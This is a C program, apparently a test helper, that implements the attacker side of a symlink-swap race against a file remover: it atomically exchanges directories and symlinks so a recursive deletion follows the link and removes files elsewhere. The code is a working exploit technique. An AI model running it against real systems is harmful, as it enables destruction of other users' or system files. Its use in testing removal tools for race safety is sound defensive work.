/* exchange.c: the attacker's half of a race with a remover. In DIR, each
 * directory dN has a symlink lN beside it; this swaps every pair with
 * renameat2(RENAME_EXCHANGE), atomically, as fast as it can. A remover
 * that lists dN and then unlinks what it found by full path resolves that
 * path through the symlink about half the time, and deletes in the
 * symlink's target instead.
 *
 *     exchange DIR SECONDS
 *
 * Prints "swapping" once the first exchange is done (the caller waits for
 * it), and "exchanged N" at the end: when DIR or its pairs are gone (the
 * remover got there) or after SECONDS. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_PAIRS 64

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: exchange DIR SECONDS\n");
        return 2;
    }
    struct stat st;
    if (stat(argv[1], &st) < 0 || chdir("/") < 0) {
        fprintf(stderr, "exchange: %s: %s\n", argv[1], strerror(errno));
        return 2;
    }
    double until = now() + atof(argv[2]);
    static char d[MAX_PAIRS][4200], l[MAX_PAIRS][4200];
    int pairs = 0;
    for (; pairs < MAX_PAIRS; pairs++) {
        snprintf(d[pairs], sizeof d[pairs], "%s/d%d", argv[1], pairs);
        snprintf(l[pairs], sizeof l[pairs], "%s/l%d", argv[1], pairs);
        if (lstat(d[pairs], &st) != 0)
            break;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    long swapped = 0;
    int alive = pairs;
    while (alive > 0 && now() < until) {
        alive = 0;
        for (int i = 0; i < pairs; i++)
            if (renameat2(AT_FDCWD, d[i], AT_FDCWD, l[i], RENAME_EXCHANGE) == 0) {
                if (swapped++ == 0)
                    printf("swapping\n");
                alive++;
            } else if (errno != ENOENT) {
                alive++;
            }
    }
    printf("exchanged %ld\n", swapped);
    return 0;
}
